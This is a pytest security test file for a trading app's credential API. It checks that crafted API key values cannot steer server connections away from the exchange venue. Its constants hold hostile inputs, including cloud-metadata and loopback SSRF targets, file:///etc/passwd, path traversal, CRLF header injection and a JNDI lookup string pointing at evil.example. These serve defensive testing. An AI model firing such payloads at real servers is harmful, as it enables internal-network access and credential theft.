"""Whatever a person puts into a key, the server connects to nobody but the venue."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from ccxt.base.errors import ExchangeNotAvailable

from tests.contract.alpaca_plugin.rig import ImpatientPlugin as ImpatientAlpaca
from tests.contract.ccxt_plugin.rig import CAPTURE, HastyPlugin
from tests.support.account_client import Client, first_person
from tests.support.accounts import CHEAP
from tests.support.applications import RunningApp, memory_stores, running_app
from tests.support.connects import watched_connects
from tests.support.loaders import loader_of
from tests.venues.alpaca import AlpacaVenue
from tests.venues.binance import BinanceVenue
from tradewright.app import Adapters
from tradewright.domain.capabilities import CredentialFieldName
from tradewright.domain.credentials import Credentials
from tradewright.plugins import _ccxt_exchange
from tradewright.plugins._ccxt_errors import ERRORS
from tradewright.plugins._ccxt_manifest import load_manifest
from tradewright.plugins._venue_clock import VenueClock
from tradewright.plugins.base import SharedByInstances
from tradewright.runtime.clock import SystemClock

KEYS = "/api/v1/credentials"
HOSTS = (
    "127.0.0.2", "127.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.2]", "169.254.169.254", "2130706434",
    "0177.0.0.2", "0x7f000002", "localhost", "metadata.google.internal", "10.0.0.1", "192.168.0.1",
    "evil.example", "venue@evil.example", "evil.example#", "127.0.0.2.nip.io", "[fd00::1]",
)  # fmt: skip
SHAPES = ("http://{}/", "//{}/x?", "@{}/", "x@{}:80/#", "gopher://{}:70/_")
VALUES = (
    *(shape.format(host) for host in HOSTS for shape in SHAPES),
    "file:///etc/passwd",
    "../../../etc/passwd",
    "{hostname}.evil.example",
    "%0d%0aHost:%20evil.example",
    "${jndi:ldap://evil.example/a}",
)
NAMES = (
    "urls", "hostname", "proxyUrl", "proxy_url", "httpProxy", "http_proxy", "httpsProxy", "socksProxy",
    "wsProxy", "wssProxy", "aiohttp_proxy", "session", "headers", "options", "verify", "cert", "fetch",
    "sign", "userAgent", "timeout", "sandbox", "data_url", "trading_url", "apiKey", "__class__", "__init__",
)  # fmt: skip
BINANCE = {"market": "crypto", "provider": "binance", "label": "mine"}


def test_there_are_enough_of_them() -> None:
    assert len({*VALUES, *NAMES}) >= 120


@pytest.fixture
async def venues() -> AsyncIterator[tuple[BinanceVenue, AlpacaVenue]]:
    async with (
        BinanceVenue(CAPTURE, lead_in_s=15, speed=5) as binance,
        AlpacaVenue(days=2, live=False) as alpaca,
    ):
        yield binance, alpaca


@pytest.fixture
async def app(tmp_path: Path, venues: tuple[BinanceVenue, AlpacaVenue]) -> AsyncIterator[RunningApp]:
    adapters = Adapters(
        loader=loader_of(HastyPlugin, ImpatientAlpaca),
        stores=memory_stores(),
        password_cost=CHEAP,
    )
    providers = {"binance": venues[0].provider_options(), "alpaca": venues[1].provider_options()}
    async with running_app(tmp_path, adapters, providers=providers) as running:
        yield running


@pytest.fixture
async def anna(app: RunningApp) -> Client:
    return await first_person(app)


async def test_no_field_but_those_of_the_provider_is_taken(app: RunningApp, anna: Client) -> None:
    key = {"api_key": "a", "secret": "b"}
    for name, value in itertools.product(NAMES, ("http://127.0.0.2/", {"api": "http://127.0.0.2/"}, True)):
        for body in (
            {**BINANCE, "fields": {**key, name: value}},
            {**BINANCE, "fields": key, name: value},
        ):
            assert (await anna.post(KEYS, body)).status == 422, body
    assert await app.services.people.stores.credentials.all() == ()


async def test_hostile_keys_are_sent_to_their_venue_alone(
    anna: Client, venues: tuple[BinanceVenue, AlpacaVenue]
) -> None:
    ports = {urlsplit(venue.url).port for venue in venues}
    pem = "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----"
    forged = "-----BEGIN X-----\r\nHost: evil.example"
    hostile = [*((value, value) for value in VALUES[::12]), ("k", pem), (VALUES[0], forged)]
    with watched_connects() as reached:
        for provider, market in (("binance", "crypto"), ("alpaca", "stocks")):
            for api_key, secret in hostile:
                key = {"api_key": api_key, "secret": secret}
                made = await anna.post(
                    KEYS,
                    {"market": market, "provider": provider, "label": "x", "fields": key},
                )
                assert made.status == 201, made.text
                at = f"{KEYS}/{made.body['id']}"
                answer = await anna.post(f"{at}/test")
                assert answer.status == 502, answer.text
                assert answer.body["code"].startswith("provider_"), answer.text
                assert (await anna.call("DELETE", at)).status == 204
    assert {port for _, port in reached} <= ports, reached
    assert {host for host, _ in reached} == {"127.0.0.1"}
    assert {port for _, port in reached} == ports, "else nothing was sent at all"


def made(provider: str, fields: dict[CredentialFieldName, str]) -> Any:
    async def unmeasured() -> None:
        pass

    clock = SystemClock()
    return _ccxt_exchange.make_exchange(
        provider,
        options={},
        http_timeout_s=1,
        credentials=Credentials(fields),
        testnet=False,
        clock=clock,
        venue_clock=VenueClock(provider, clock),
        measure_clock=unmeasured,
        shared=SharedByInstances(),
    )


def settings_of(exchange: Any) -> dict[str, object]:
    """All of an exchange but its key and what is another thing in each of them."""
    own = {"apiKey", "secret", "password", "uid", "walletAddress", "privateKey"}
    others = {
        "origin",
        "governor",
        "tokenBucket",
        "throttler",
        "venue_clock",
        "clock",
        "lock",
        "markets_loading",
    }
    return {
        name: value
        for name, value in vars(exchange).items()
        if name not in own | others and isinstance(value, str | int | float | dict | list | tuple | None)
    }


async def test_no_value_changes_anything_but_the_key() -> None:
    plain = settings_of(made("binance", {"api_key": "a", "secret": "b"}))
    assert {"urls", "options", "headers", "has"} <= plain.keys()
    for value in (*VALUES[::3], *NAMES):
        exchange = made("binance", {"api_key": value, "secret": value})
        assert (exchange.apiKey, exchange.secret) == (value, value)
        assert settings_of(exchange) == plain


@pytest.mark.parametrize("provider", ["hyperliquid", "okx", "kucoin", "coinbase", "aster"])
async def test_every_request_goes_to_an_address_of_the_venue(provider: str) -> None:
    names = load_manifest().exchanges[provider].credential_fields
    hosts: list[set[str | None]] = []
    for value in ("k", "x@evil.example/#", "//evil.example/", "....//"):
        exchange = made(provider, dict.fromkeys(names, value))
        asked: set[str | None] = set()

        async def fetch(url: str, *_: object, asked: set[str | None] = asked) -> Any:
            asked.add(urlsplit(url).hostname)
            raise ExchangeNotAvailable("no")

        async def nothing(*_: object, **__: object) -> dict[str, Any]:
            return {}

        exchange.fetch, exchange.load_markets = fetch, nothing
        exchange.markets = exchange.markets_by_id = exchange.currencies = {}
        with pytest.raises(tuple(ERRORS)):
            async with asyncio.timeout(5):
                await exchange.fetch_balance()
        hosts.append(asked)
        await exchange.close()
    assert all(asked <= hosts[0] for asked in hosts), hosts
